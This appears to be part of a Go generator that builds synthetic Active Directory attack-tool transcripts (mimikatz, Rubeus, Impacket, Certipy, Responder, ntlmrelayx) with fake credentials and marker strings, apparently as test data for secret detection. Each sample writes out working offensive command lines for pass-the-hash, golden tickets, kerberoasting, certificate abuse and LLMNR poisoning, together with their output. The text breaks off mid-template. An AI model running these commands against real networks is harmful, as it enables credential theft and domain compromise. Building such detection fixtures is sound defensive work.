Policy subsystem is : 1.18
LSA Key(s) : 1, default {«_g»}
  [00] {«_g»} «=lk»

* Iteration is set to default (10240)

[NL$1 - 6/9/2025 7:55:21 AM]
RID       : 00000462 (1122)
User      : MEGACORP\c.okafor
MsCacheV2 : «a»

[NL$2 - 5/30/2025 5:12:09 PM]
RID       : 000004f1 (1265)
User      : MEGACORP\da.c.okafor
MsCacheV2 : «b»
`, V{"=sk": g.hex(32), "_g": g.uuid(), "=lk": g.hex(64), "a": g.hex(32), "b": g.hex(32)},
		"* Iteration is set to default (10240)", "User      : MEGACORP\\da.c.okafor")

	g.add("sec/mimikatz-pth-run-powershell", `
mimikatz # sekurlsa::pth /user:svc_backup /domain:contoso.local /ntlm:«a» /run:powershell.exe
user	: svc_backup
domain	: contoso.local
program	: powershell.exe
impers.	: no
NTLM	: «a»
  |  PID  7340
  |  TID  6128
  |  LSA Process is now R/W
  |  LUID 0 ; 89123101 (00000000:054fe11d)
  \_ msv1_0   - data copy @ 0000024C3A1F8B60 : OK !
  \_ kerberos - data copy @ 0000024C3A2E1F08
   \_ aes256_hmac       -> null             
   \_ aes128_hmac       -> null             
   \_ rc4_hmac_nt       OK
   \_ rc4_hmac_old      OK
   \_ rc4_md4           OK
   \_ rc4_hmac_nt_exp   OK
   \_ rc4_hmac_old_exp  OK
   \_ *Password replace @ 0000024C3A0D7A58 (32) -> null
`, V{"a": g.stNT()}, "  |  LSA Process is now R/W", "/run:powershell.exe", "user	: svc_backup")

	g.add("sec/mimikatz-golden-ticket-krbtgt-hash", `
mimikatz # kerberos::golden /user:Administrator /domain:fabrikam.local /sid:«_sid» /krbtgt:«a» /id:500 /groups:512 /ptt
User      : Administrator
Domain    : fabrikam.local (FABRIKAM)
SID       : «_sid»
User Id   : 500
Groups Id : *512 
ServiceKey: «a» - rc4_hmac_nt      
Lifetime  : 6/12/2025 10:02:44 AM ; 6/10/2035 10:02:44 AM ; 6/10/2035 10:02:44 AM
-> Ticket : ** Pass The Ticket **

 * PAC generated
 * PAC signed
 * EncTicketPart generated
 * EncTicketPart encrypted
 * KrbCred generated

Golden ticket for 'Administrator @ fabrikam.local' successfully submitted for current session
`, V{"_sid": g.stSID(), "a": g.stNT()}, "Golden ticket for 'Administrator @ fabrikam.local' successfully submitted for current session", "Groups Id : *512")

	g.add("sec/mimikatz-vault-cred-patch", `
mimikatz # vault::cred /patch
TargetName : Domain:batch=TaskScheduler:Task:{«_t»} / <NULL>
UserName   : NORTHWIND\svc_reports
Comment    : <NULL>
Type       : 2 - domain_password
Persist    : 2 - local_machine
Flags      : 00004004
Credential : «a»
Attributes : 0

TargetName : MicrosoftAccount:user=kiosk.lobby@outlook.com / <NULL>
UserName   : kiosk.lobby@outlook.com
Comment    : PersistedCredential
Type       : 1 - generic
Persist    : 2 - local_machine
Flags      : 00000000
Credential : 
Attributes : 0
`, V{"_t": strings.ToUpper(g.uuid()), "a": g.stHuman()}, "UserName   : NORTHWIND\\svc_reports", "Type       : 2 - domain_password", "Comment    : PersistedCredential")

	g.add("sec/mimikatz-cloudap-prt-and-key", `
mimikatz # sekurlsa::cloudap

Authentication Id : 0 ; 1203311 (00000000:00125c6f)
Session           : Interactive from 1
User Name         : l.haddad
Domain            : AzureAD
Logon Server      : (null)
Logon Time        : 6/4/2025 8:02:19 AM
SID               : S-1-12-1-3051126011-1099183402-2619016332-2871651417
	cloudap :	
	     Cachedir : «_cd»
	     Key GUID : {«_kg»}
	     PRT      : {"Version":3, "UserInfo":{"Version":2, "UniqueId":"«_oid»", "PrimarySid":"S-1-12-1-3051126011-1099183402-2619016332-2871651417", "DisplayName":"Lina Haddad", "FirstName":"Lina", "LastName":"Haddad", "Identity":"l.haddad@contoso.com", "PasswordChangeUrl":"https:\/\/portal.microsoftonline.com\/ChangePassword.aspx", "PasswordExpiryTimeLow":3843186687, "PasswordExpiryTimeHigh":2147483446, "PublicInfoPublicKeyType":0, "Flags":0}, "Prt":"«a»", "ProofOfPossesionKey":{"Version":1, "KeyType":"ngc", "KeyValue":"«_kv»"}, "SessionKeyImportTime":"2025-06-04T08:02:20Z", "PrtReceivedTime":"2025-06-04T08:02:20Z", "PrtExpiryTime":"2025-06-18T08:02:19Z", "EnterpriseSTSInfo":{"Version":0, "PRTSupported":0, "WinHelloSupported":0, "PrtReceivedTime":"1601-01-01T00:00:00Z", "PrtExpiryTime":"1601-01-01T00:00:00Z"}}
	     DPAPI Key: «b» (sha1: «=k1»)

mimikatz # dpapi::cloudapkd /keyvalue:«_kv» /unprotect
Label      : AzureAD-SecureConversation
Context    : «=ctx»
 * using CryptUnprotectData API
Key type   : Software (DPAPI)
Clear key  : «c»
Derived Key: «=dk»
`, V{"_cd": g.hex(64), "_kg": g.uuid(), "_oid": g.uuid(), "a": b64s(g.stAzRT()), "_kv": "AQAAAAEAAAABAAAA0Iyd3wEV0RGMegDAT8KX6wEAAA" + g.b64u(300), "b": g.hex(128), "=k1": g.hex(40),
		"=ctx": g.hex(48), "c": g.hex(64), "=dk": g.hex(64)},
		"Label      : AzureAD-SecureConversation", "\"Identity\":\"l.haddad@contoso.com\"", "Domain            : AzureAD")

	g.add("sec/pypykatz-lsa-minidump", `
$ pypykatz lsa minidump lsass.DMP
INFO:pypykatz:Parsing file lsass.DMP
FILE: ======== lsass.DMP =======
== LogonSession ==
authentication_id 3251712 (319e00)
session_id 2
username b.ivanova
domainname MEGACORP
logon_server DC01
logon_time 2025-05-14T08:03:11.254191+00:00
sid «_sid»
luid 3251712
	== MSV ==
		Username: b.ivanova
		Domain: MEGACORP
		LM: NA
		NT: «a»
		SHA1: «=s1»
		DPAPI: «=dp»
	== WDIGEST [319e00]==
		username b.ivanova
		domainname MEGACORP
		password None
		password (hex)
	== Kerberos ==
		Username: b.ivanova
		Domain: MEGACORP.LOCAL
	== WDIGEST [319e00]==
		username b.ivanova
		domainname MEGACORP
		password None
		password (hex)
	== DPAPI [319e00]==
		luid 3251712
		key_guid «_kg»
		masterkey «b»
		sha1_masterkey «=sm»
`, V{"_sid": g.stSID() + "-1118", "a": g.stNT(), "=s1": g.stSHA1(), "=dp": g.hex(40), "_kg": g.uuid(), "b": g.hex(128), "=sm": g.hex(40)},
		"INFO:pypykatz:Parsing file lsass.DMP", "username b.ivanova", "password None")

	g.add("sec/nxc-lsassy-module", `
$ nxc smb 10.20.30.0/24 -u localsupport -H «a» --local-auth -M lsassy
SMB         10.20.30.41     445    FIN-WS07         [*] Windows 10 / Server 2019 Build 19041 x64 (name:FIN-WS07) (domain:FIN-WS07) (signing:False) (SMBv1:False)
SMB         10.20.30.44     445    FIN-WS10         [*] Windows 10 / Server 2019 Build 19041 x64 (name:FIN-WS10) (domain:FIN-WS10) (signing:False) (SMBv1:False)
SMB         10.20.30.41     445    FIN-WS07         [+] FIN-WS07\localsupport:«a» (Pwn3d!)
SMB         10.20.30.44     445    FIN-WS10         [+] FIN-WS10\localsupport:«a» (Pwn3d!)
LSASSY      10.20.30.41     445    FIN-WS07         NORTHWIND\m.kowalski «b»
LSASSY      10.20.30.44     445    FIN-WS10         NORTHWIND\j.achebe «c»
LSASSY      10.20.30.44     445    FIN-WS10         NORTHWIND\FIN-WS10$ «=mh»
`, V{"a": g.stNT(), "b": g.stNT(), "c": g.stHuman(), "=mh": g.stNT()},
		"(signing:False) (SMBv1:False)", "--local-auth -M lsassy", "NORTHWIND\\m.kowalski")

	g.add("sec/mimikatz-dpapi-chrome-logins", `
mimikatz # dpapi::chrome /in:"%localappdata%\Google\Chrome\User Data\Default\Login Data" /unprotect
> Encrypted Key found in local state file
> Encrypted Key seems to be protected by DPAPI
 * using CryptUnprotectData API
> AES Key is: «=aes»

URL     : https://vpn.fabrikam.com/ ( https://vpn.fabrikam.com/remote/login )
Username: a.moreau
 * using BCrypt with AES-256-GCM
Password: «a»

URL     : https://fabrikam.atlassian.net/ ( https://id.atlassian.com/login )
Username: a.moreau@fabrikam.com
 * using BCrypt with AES-256-GCM
Password: «b»
`, V{"=aes": g.hex(64), "a": g.stHuman(), "b": g.pwStrong()}, "> Encrypted Key found in local state file", "Username: a.moreau@fabrikam.com", "https://vpn.fabrikam.com/remote/login")

	g.add("sec/mimikatz-lsadump-trust", `
mimikatz # lsadump::trust /patch

Current domain: MEGACORP.LOCAL (MEGACORP / S-1-5-21-934781123-2219806741-1733381024)

Domain: PARTNER.LOCAL (PARTNER / S-1-5-21-1183770043-3372610932-488311206)
 [  In ] MEGACORP.LOCAL -> PARTNER.LOCAL
    * 6/1/2025 4:12:09 AM - CLEAR   - «=clr»
	* aes256_hmac       «=ka»
	* aes128_hmac       «=kb»
	* rc4_hmac_nt       «a»

 [ Out ] PARTNER.LOCAL -> MEGACORP.LOCAL
    * 6/1/2025 4:12:09 AM - CLEAR   - «=clr2»
	* aes256_hmac       «b»
	* aes128_hmac       «=kc»
	* rc4_hmac_nt       «=kd»
`, V{"=clr": g.stSpacedHex(24, 24, ""), "=ka": g.stAES256(), "=kb": g.stAES128(), "a": g.stNT(), "=clr2": g.stSpacedHex(24, 24, ""), "b": g.stAES256(), "=kc": g.stAES128(), "=kd": g.stNT()},
		"Current domain: MEGACORP.LOCAL", "[  In ] MEGACORP.LOCAL -> PARTNER.LOCAL")
}

// stRubeusWrap splits s into lines of n characters indented as Rubeus
// prints a hash without /nowrap.
func stRubeusWrap(s string, n int) string {
	return strings.ReplaceAll(wrap(s, n), "\n", "\n                             ")
}

func (g *G) stKerberos() {
	h1, c1 := g.stTGS23("svc_mssql", "contoso.local", "MSSQLSvc/sql01.contoso.local:1433@contoso.local", true)
	h2, c2 := g.stTGS23("svc_iis", "contoso.local", "HTTP/intranet.contoso.local@contoso.local", true)
	g.add("sec/rubeus-kerberoast-nowrap-rc4", `
PS C:\Users\l.fischer\Documents> .\Rubeus.exe kerberoast /nowrap /outfile:C:\Users\Public\k.txt /simple
   ______        _                      
  (_____ \      | |                     
   _____) )_   _| |__  _____ _   _  ___ 
  |  __  /| | | |  _ \| ___ | | | |/___)
  | |  \ \| |_| | |_) ) ____| |_| |___ |
  |_|   |_|____/|____/|_____)____/(___/

  v2.3.2 


[*] Action: Kerberoasting

[*] NOTICE: AES hashes will be returned for AES-enabled accounts.
[*]         Use /ticket:X or /tgtdeleg to force RC4_HMAC for these accounts.

[*] Target Domain          : contoso.local
[*] Searching path 'LDAP://DC01.contoso.local/DC=contoso,DC=local' for '(&(samAccountType=805306368)(servicePrincipalName=*)(!samAccountName=krbtgt)(!(UserAccountControl:1.2.840.113556.1.4.803:=2)))'

[*] Total kerberoastable users : 2

`+strings.TrimSuffix(h1, c1)+`«c1»
`+strings.TrimSuffix(h2, c2)+`«c2»
[*] Roasted hashes written to : C:\Users\Public\k.txt
`, V{"c1": c1, "c2": c2}, "[*] Total kerberoastable users : 2", "C:\\Users\\Public\\k.txt")

	spn := "HTTP/reports.fabrikam.local"
	head := "$krb5tgs$18$svc_reports$FABRIKAM.LOCAL$*" + spn + "*$"
	chk := g.s(alHexU, 24)
	first := 100 - len(head) - len(chk) - 1
	e1, e2, e3 := g.s(alHexU, first), g.s(alHexU, 100), g.s(alHexU, 1900)
	g.add("sec/rubeus-kerberoast-aes-wrapped", `
[*] SamAccountName         : svc_reports
[*] DistinguishedName      : CN=svc_reports,OU=Service Accounts,OU=Tier1,DC=fabrikam,DC=local
[*] ServicePrincipalName   : `+spn+`
[*] PwdLastSet             : 11/3/2019 2:41:17 PM
[*] Supported ETypes       : AES128_CTS_HMAC_SHA1_96, AES256_CTS_HMAC_SHA1_96
[*] Hash                   : `+head+`«a»$«=e1»
                             «b»
                             «=e3»
`, V{"a": chk, "=e1": e1, "b": e2, "=e3": stRubeusWrap(e3, 100)},
		"[*] SamAccountName         : svc_reports", "AES128_CTS_HMAC_SHA1_96, AES256_CTS_HMAC_SHA1_96", "CN=svc_reports,OU=Service Accounts,OU=Tier1,DC=fabrikam,DC=local")

	h3, c3 := g.stTGS23("svc_sap", "NORTHWIND.LOCAL", "northwind.local/svc_sap", false)
	g.add("sec/getuserspns-request-outputfile", `
$ GetUserSPNs.py -request -dc-ip 10.20.30.5 -outputfile roast.txt 'northwind.local/m.kowalski:«p»'
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies 

ServicePrincipalName                 Name      MemberOf                                           PasswordLastSet             LastLogon                   Delegation 
-----------------------------------  --------  -------------------------------------------------  --------------------------  --------------------------  ----------
SAPService/sap-prd01.northwind.local svc_sap   CN=SAP Admins,OU=Groups,DC=northwind,DC=local      2018-06-21 09:14:02.531121  2025-06-10 23:02:11.192007             
MSSQLSvc/sql02.northwind.local:1433  svc_sql2  CN=SQL Operators,OU=Groups,DC=northwind,DC=local   2024-12-01 10:00:44.000112  <never>                                

[-] CCache file is not found. Skipping...
$ cat roast.txt
`+strings.TrimSuffix(h3, c3)+`«c3»
«=h4»
`, V{"p": g.stSeason(), "c3": c3, "=h4": func() string {
		h, _ := g.stTGS23("svc_sql2", "NORTHWIND.LOCAL", "northwind.local/svc_sql2", false)
		return h
	}()},
		"SAPService/sap-prd01.northwind.local", "[-] CCache file is not found. Skipping...", "CN=SAP Admins,OU=Groups,DC=northwind,DC=local")

	h5, c5 := g.stTGSAES("18", "svc_jenkins", "MEGACORP.LOCAL", "megacorp.local/svc_jenkins")
	g.add("sec/getuserspns-aes256-hash", `
$ GetUserSPNs.py megacorp.local/b.ivanova -hashes :«p» -request-user svc_jenkins
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies 

ServicePrincipalName                  Name         MemberOf  PasswordLastSet             LastLogon                   Delegation 
------------------------------------  -----------  --------  --------------------------  --------------------------  ----------
HTTP/jenkins.megacorp.local           svc_jenkins            2022-02-14 16:20:31.112233  2025-06-11 07:45:10.001200  

$krb5tgs$18$svc_jenkins$MEGACORP.LOCAL$*megacorp.local/svc_jenkins*$«c5»
`, V{"p": g.stNT(), "c5": c5}, "HTTP/jenkins.megacorp.local", "-request-user svc_jenkins")
	_ = h5

	h6, c6 := g.stASREP("j.rivera", "contoso.local", true, true)
	g.add("sec/rubeus-asreproast-hashcat", `
C:\Tools> Rubeus.exe asreproast /format:hashcat /nowrap

[*] Action: AS-REP roasting

[*] Target Domain          : contoso.local

[*] Searching path 'LDAP://DC01.contoso.local/DC=contoso,DC=local' for '(&(samAccountType=805306368)(userAccountControl:1.2.840.113556.1.4.803:=4194304))'
[*] SamAccountName         : j.rivera
[*] DistinguishedName      : CN=Jordan Rivera,OU=Contractors,DC=contoso,DC=local
[*] Using domain controller: DC01.contoso.local (10.0.0.10)
[*] Building AS-REQ (w/o preauth) for: 'contoso.local\j.rivera'
[+] AS-REQ w/o preauth successful!
[*] AS-REP hash:

      `+strings.TrimSuffix(h6, c6)+`«c»
`, V{"c": c6}, "[+] AS-REQ w/o preauth successful!", "CN=Jordan Rivera,OU=Contractors,DC=contoso,DC=local")

	h7, c7 := g.stASREP("svc_scan", "FABRIKAM.LOCAL", true, false)
	g.add("sec/getnpusers-usersfile", `
$ GetNPUsers.py fabrikam.local/ -usersfile users.txt -format hashcat -no-pass -dc-ip 10.1.1.10 | grep -v 'not found'
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies 

[-] User a.moreau doesn't have UF_DONT_REQUIRE_PREAUTH set
[-] User r.osei doesn't have UF_DONT_REQUIRE_PREAUTH set
`+strings.TrimSuffix(h7, c7)+`«c»
[-] User da_backup doesn't have UF_DONT_REQUIRE_PREAUTH set
[-] Kerberos SessionError: KDC_ERR_CLIENT_REVOKED(Clients credentials have been revoked)
`, V{"c": c7}, "[-] User a.moreau doesn't have UF_DONT_REQUIRE_PREAUTH set", "KDC_ERR_CLIENT_REVOKED")

	g.add("sec/rubeus-asktgt-rc4-ptt", `
PS C:\Temp> .\Rubeus.exe asktgt /user:svc_backup /rc4:«a» /domain:megacorp.local /ptt /nowrap

[*] Action: Ask TGT

[*] Using rc4_hmac hash: «A»
[*] Building AS-REQ (w/ preauth) for: 'megacorp.local\svc_backup'
[*] Using domain controller: 10.50.0.10:88
[+] TGT request successful!
[*] base64(ticket.kirbi):

      «b»

[+] Ticket successfully imported!

  ServiceName              :  krbtgt/megacorp.local
  ServiceRealm             :  MEGACORP.LOCAL
  UserName                 :  svc_backup (NT_PRINCIPAL)
  UserRealm                :  MEGACORP.LOCAL
  StartTime                :  6/12/2025 9:31:02 AM
  EndTime                  :  6/12/2025 7:31:02 PM
  RenewTill                :  6/19/2025 9:31:02 AM
  Flags                    :  name_canonicalize, pre_authent, initial, renewable, forwardable
  KeyType                  :  rc4_hmac
  Base64(key)              :  «=c»
  ASREP (key)              :  «A»
`, func() V { a := g.stNT(); return V{"a": a, "A": strings.ToUpper(a), "b": g.stKirbi(), "=c": g.b64(16)} }(),
		"[+] Ticket successfully imported!", "ServiceName              :  krbtgt/megacorp.local", "UserName                 :  svc_backup (NT_PRINCIPAL)")

	g.add("sec/rubeus-dump-krbtgt-service", `
C:\ProgramData> Rubeus.exe dump /service:krbtgt /luid:0x4b1e2 /nowrap

Action: Dump Kerberos Ticket Data (All Users)

[*] Target service  : krbtgt
[*] Target LUID     : 0x4b1e2
[*] Current LUID    : 0x3e7

  UserName                 : da.c.okafor
  Domain                   : MEGACORP
  LogonId                  : 0x4b1e2
  UserSID                  : «_sid»
  AuthenticationPackage    : Kerberos
  LogonType                : RemoteInteractive
  LogonTime                : 6/12/2025 8:02:55 AM
  LogonServer              : DC01
  LogonServerDNSDomain     : MEGACORP.LOCAL
  UserPrincipalName        : da.c.okafor@megacorp.local


    ServiceName              :  krbtgt/MEGACORP.LOCAL
    ServiceRealm             :  MEGACORP.LOCAL
    UserName                 :  da.c.okafor (NT_PRINCIPAL)
    UserRealm                :  MEGACORP.LOCAL
    StartTime                :  6/12/2025 8:02:55 AM
    EndTime                  :  6/12/2025 6:02:55 PM
    RenewTill                :  6/19/2025 8:02:55 AM
    Flags                    :  name_canonicalize, pre_authent, initial, renewable, forwardable
    KeyType                  :  aes256_cts_hmac_sha1
    Base64(key)              :  «a»
    Base64EncodedTicket   :

      «b»
`, V{"_sid": g.stSID() + "-1266", "a": g.b64(32), "b": g.stKirbi()}, "UserPrincipalName        : da.c.okafor@megacorp.local", "[*] Target service  : krbtgt")

	g.add("sec/rubeus-tgtdeleg-kirbi", `
beacon> execute-assembly /opt/tools/Rubeus.exe tgtdeleg /nowrap
[*] Tasked beacon to run .NET program: Rubeus.exe tgtdeleg /nowrap
[+] host called home, sent: 556128 bytes
[+] received output:

[*] Action: Request Fake Delegation TGT (current user)

[*] No target SPN specified, attempting to build 'cifs/dc.domain.com'
[*] Initializing Kerberos GSS-API w/ fake delegation for target 'cifs/DC02.fabrikam.local'
[+] Kerberos GSS-API initialization success!
[+] Delegation requset success! AP-REQ delegation ticket is now in GSS-API output.
[*] Found the AP-REQ delegation ticket in the GSS-API output.
[*] Authenticator etype: aes256_cts_hmac_sha1
[*] Extracted the service ticket session key from the ticket cache: «a»
[+] Successfully decrypted the authenticator
[*] base64(ticket.kirbi):

      «b»
`, V{"a": g.b64(32), "b": g.stKirbi()}, "[+] Kerberos GSS-API initialization success!", "cifs/DC02.fabrikam.local")

	g.add("sec/certipy-req-and-auth-pfx", `
$ certipy req -u 'j.rivera@contoso.local' -p '«p»' -dc-ip 10.0.0.10 -ca 'CONTOSO-CA01-CA' -template 'VPNUser' -upn 'administrator@contoso.local'
Certipy v4.8.2 - by Oliver Lyak (ly4k)

[*] Requesting certificate via RPC
[*] Successfully requested certificate
[*] Request ID is 417
[*] Got certificate with UPN 'administrator@contoso.local'
[*] Certificate has no object SID
[*] Saved certificate and private key to 'administrator.pfx'
$ certipy auth -pfx administrator.pfx -dc-ip 10.0.0.10
Certipy v4.8.2 - by Oliver Lyak (ly4k)

[*] Using principal: administrator@contoso.local
[*] Trying to get TGT...
[*] Got TGT
[*] Saved credential cache to 'administrator.ccache'
[*] Trying to retrieve NT hash for 'administrator'
[*] Got hash for 'administrator@contoso.local': aad3b435b51404eeaad3b435b51404ee:«a»
`, V{"p": g.stHuman(), "a": g.stNT()}, "[*] Saved credential cache to 'administrator.ccache'", "-template 'VPNUser'", "CONTOSO-CA01-CA")

	g.add("sec/certipy-shadow-auto", `
$ certipy shadow auto -u 'l.fischer@contoso.local' -hashes :«p» -account svc_ca
Certipy v4.8.2 - by Oliver Lyak (ly4k)

[*] Targeting user 'svc_ca'
[*] Generating certificate
[*] Certificate generated
[*] Generating Key Credential
[*] Key Credential generated with DeviceID '«_d»'
[*] Adding Key Credential with device ID '«_d»' to the Key Credentials for 'svc_ca'
[*] Successfully added Key Credential with device ID '«_d»' to the Key Credentials for 'svc_ca'
[*] Authenticating as 'svc_ca' with the certificate
[*] Using principal: svc_ca@contoso.local
[*] Trying to get TGT...
[*] Got TGT
[*] Saved credential cache to 'svc_ca.ccache'
[*] Trying to retrieve NT hash for 'svc_ca'
[*] Restoring the old Key Credentials for 'svc_ca'
[*] Successfully restored the old Key Credentials for 'svc_ca'
[*] NT hash for 'svc_ca': «a»
`, V{"p": g.stNT(), "_d": g.uuid(), "a": g.stNT()}, "[*] Targeting user 'svc_ca'", "svc_ca.ccache")

	g.add("sec/pkinittools-gettgt-getnthash", `
$ python3 gettgtpkinit.py -cert-pfx dc02.pfx -pfx-pass '«p»' fabrikam.local/DC02$ dc02.ccache
2025-06-12 11:04:21,618 minikerberos INFO     Loading certificate and key from file
INFO:minikerberos:Loading certificate and key from file
2025-06-12 11:04:21,640 minikerberos INFO     Requesting TGT
INFO:minikerberos:Requesting TGT
2025-06-12 11:04:21,688 minikerberos INFO     AS-REP encryption key (you might need this later):
INFO:minikerberos:AS-REP encryption key (you might need this later):
2025-06-12 11:04:21,688 minikerberos INFO     «a»
INFO:minikerberos:«a»
2025-06-12 11:04:21,693 minikerberos INFO     Saved TGT to file
INFO:minikerberos:Saved TGT to file
$ KRB5CCNAME=dc02.ccache python3 getnthash.py -key «a» fabrikam.local/DC02$
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies 

[*] Using TGT from cache
[*] Requesting ticket to self with PAC
Recovered NT Hash
«b»
`, V{"p": g.pwStrong(), "a": g.hex(64), "b": g.stNT()}, "AS-REP encryption key (you might need this later):", "KRB5CCNAME=dc02.ccache", "Recovered NT Hash")

	h8, c8 := g.stTGS23("e.lindqvist", "MEGACORP.LOCAL", "megacorp.local/e.lindqvist", false)
	g.add("sec/targeted-kerberoast-genericwrite", `
$ targetedKerberoast.py -v -d megacorp.local -u b.ivanova -p '«p»' --request-user e.lindqvist
[*] Starting kerberoast attacks
[*] Fetching usernames from Active Directory with LDAP
[VERBOSE] SPN added successfully for (e.lindqvist)
[+] Printing hash for (e.lindqvist)
`+strings.TrimSuffix(h8, c8)+`«c»
[VERBOSE] SPN removed successfully for (e.lindqvist)
`, V{"p": g.stHuman(), "c": c8}, "[VERBOSE] SPN removed successfully for (e.lindqvist)", "--request-user e.lindqvist")

	g.add("sec/rubeus-s4u-aes256", `
C:\Temp> Rubeus.exe s4u /user:WEB03$ /aes256:«a» /impersonateuser:Administrator /msdsspn:cifs/fs01.fabrikam.local /altservice:host,http /ptt

[*] Action: S4U

[*] Using aes256_cts_hmac_sha1 hash: «A»
[*] Building AS-REQ (w/ preauth) for: 'fabrikam.local\WEB03$'
[*] Using domain controller: 10.1.1.10:88
[+] TGT request successful!
[*] Action: S4U
[*] Building S4U2self request for: 'WEB03$@FABRIKAM.LOCAL'
[+] S4U2self success!
[*] Impersonating user 'Administrator' to target SPN 'cifs/fs01.fabrikam.local'
[*]   Final ticket will be for the alternate service 'host'
[*]   Final ticket will be for the alternate service 'http'
[+] S4U2proxy success!
[+] Ticket successfully imported!
`, func() V { a := g.stAES256(); return V{"a": a, "A": strings.ToUpper(a)} }(), "[+] S4U2proxy success!", "/impersonateuser:Administrator", "/altservice:host,http")
}

func (g *G) stCapture() {
	h1, c1 := g.stNetV2("s.tanaka", "CONTOSO", "WS-0412", "contoso.local", true)
	g.add("sec/responder-smb-ntlmv2-console", `
$ sudo responder -I eth0 -dwv
                                         __
  .----.-----.-----.-----.-----.-----.--|  |.-----.----.
  |   _|  -__|__ --|  _  |  _  |     |  _  ||  -__|   _|
  |__| |_____|_____|   __|_____|__|__|_____||_____|__|
                   |__|

           NBT-NS, LLMNR & MDNS Responder 3.1.5.0

[+] Listening for events...

[*] [LLMNR]  Poisoned answer sent to fe80::9c1a:44ff:fe12:7b3d for name fileserv01
[*] [LLMNR]  Poisoned answer sent to 10.0.8.77 for name fileserv01
[*] [MDNS] Poisoned answer sent to 10.0.8.77       for name fileserv01.local
[SMB] NTLMv2-SSP Client   : fe80::9c1a:44ff:fe12:7b3d
[SMB] NTLMv2-SSP Username : CONTOSO\s.tanaka
[SMB] NTLMv2-SSP Hash     : `+strings.TrimSuffix(h1, c1)+`«c»
[*] Skipping previously captured hash for CONTOSO\s.tanaka
`, V{"c": c1}, "NBT-NS, LLMNR & MDNS Responder 3.1.5.0", "[SMB] NTLMv2-SSP Username : CONTOSO\\s.tanaka", "Poisoned answer sent to 10.0.8.77 for name fileserv01")

	g.add("sec/responder-http-basic-cleartext", `
[*] [NBT-NS] Poisoned answer sent to 10.20.30.88 for name WPAD (service: Workstation/Redirector)
[HTTP] Sending NTLM authentication request to 10.20.30.88
[HTTP] Basic Client   : 10.20.30.88
[HTTP] Basic Username : NORTHWIND\scanner
[HTTP] Basic Password : «a»
[*] [LLMNR]  Poisoned answer sent to 10.20.30.88 for name printsrv
`, V{"a": g.stHuman()}, "[HTTP] Basic Username : NORTHWIND\\scanner", "for name WPAD (service: Workstation/Redirector)")

	h2, c2 := g.stNetV2("svc_sccm", "MEGACORP", "SCCM01", "megacorp.local", true)
	h3, c3 := g.stNetV2("r.dubois", "MEGACORP", "LT-RDUBOIS", "megacorp.local", true)
	g.add("sec/responder-logs-directory", `
$ ls -1 /usr/share/responder/logs/
Analyzer-Session.log
Config-Responder.log
HTTP-NTLMv2-10.50.2.31.txt
Poisoners-Session.log
Responder-Session.log
SMB-NTLMv2-SSP-10.50.1.14.txt
$ cat /usr/share/responder/logs/SMB-NTLMv2-SSP-10.50.1.14.txt /usr/share/responder/logs/HTTP-NTLMv2-10.50.2.31.txt
`+strings.TrimSuffix(h2, c2)+`«a»
`+strings.TrimSuffix(h3, c3)+`«b»
`, V{"a": c2, "b": c3}, "SMB-NTLMv2-SSP-10.50.1.14.txt", "Responder-Session.log")

	g.add("sec/responder-ntlmv1-lm-downgrade", `
# Responder.conf: Challenge = 1122334455667788 ; run with --lm --disable-ess against the printer
[SMB] NTLMv1 Client   : 10.1.3.40
[SMB] NTLMv1 Username : FABRIKAM\PRN-FLOOR3$
[SMB] NTLMv1 Hash     : PRN-FLOOR3$::FABRIKAM:«a»:1122334455667788
# -> ntlmv1-multi / crack.sh for the machine NT hash
`, V{"a": g.s(alHexU, 48) + ":" + g.s(alHexU, 48)}, "Challenge = 1122334455667788", "[SMB] NTLMv1 Username : FABRIKAM\\PRN-FLOOR3$")

	h5, c5 := g.stNetV2("t.nguyen", "CONTOSO", "LT-0231", "contoso.local", true)
	g.add("sec/responder-db-sqlite", `
$ sqlite3 -header Responder.db "select timestamp,module,type,client,user,cleartext,fullhash from Responder order by timestamp"
timestamp|module|type|client|user|cleartext|fullhash
2025-06-10 09:12:33|SMB|NTLMv2-SSP|10.0.8.51|CONTOSO\t.nguyen||`+strings.TrimSuffix(h5, c5)+`«a»
2025-06-10 09:40:02|FTP|Cleartext|10.0.8.19|ftpbackup|«b»|ftpbackup:«b»
2025-06-10 10:02:17|SQL|Cleartext|10.0.8.60|reporting|«c»|reporting:«c»
`, V{"a": c5, "b": g.pwURL(), "c": g.stHuman()}, "timestamp|module|type|client|user|cleartext|fullhash", "|SQL|Cleartext|10.0.8.60|reporting|")

	h6, c6 := g.stNetV2("k.brandt", "NORTHWIND", "NW-LT-118", "northwind.local", true)
	g.add("sec/inveigh-console-ntlmv2", `
PS C:\Users\Public> Invoke-Inveigh -ConsoleOutput Y -NBNS Y -LLMNR Y -FileOutput Y
[*] Inveigh 1.506 started at 2025-06-11T13:22:10
[+] Elevated Privilege Mode = Enabled
[+] Primary IP Address = 10.20.30.150
[+] Spoofer IP Address = 10.20.30.150
[+] LLMNR Spoofer = Enabled
[+] NBNS Spoofer For Types 00,20 = Enabled
[+] SMB Capture = Enabled
[+] HTTP Capture = Enabled
[+] [2025-06-11T13:24:41] LLMNR request for printsrv received from 10.20.30.118 [response sent]
[+] [2025-06-11T13:24:41] SMB(445) NTLMv2 captured for NORTHWIND\k.brandt from 10.20.30.118(NW-LT-118):51544:
`+strings.TrimSuffix(h6, c6)+`«a»
[*] [2025-06-11T13:24:41] SMB(445) NTLMv2 for NORTHWIND\k.brandt written to Inveigh-NTLMv2.txt
`, V{"a": c6}, "[+] SMB Capture = Enabled", "Inveigh-NTLMv2.txt", "LLMNR request for printsrv received from 10.20.30.118")

	g.add("sec/ntlmrelayx-smb-sam-dump", `
$ sudo ntlmrelayx.py -tf relay_targets.txt -smb2support
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies 

[*] Protocol Client SMB loaded..
[*] Protocol Client LDAP loaded..
[*] Running in relay mode to hosts in targetfile
[*] Setting up SMB Server on port 445
[*] Setting up HTTP Server on port 80
[*] Servers started, waiting for connections
[*] SMBD-Thread-5 (process_request_thread): Received connection from 10.50.1.14, attacking target smb://10.50.1.22
[*] Authenticating against smb://10.50.1.22 as MEGACORP/SVC_SCCM SUCCEED
[*] Service RemoteRegistry is in stopped state
[*] Starting service RemoteRegistry
[*] Target system bootKey: 0x«=bk»
[*] Dumping local SAM hashes (uid:rid:lmhash:nthash)
Administrator:500:aad3b435b51404eeaad3b435b51404ee:«a»:::
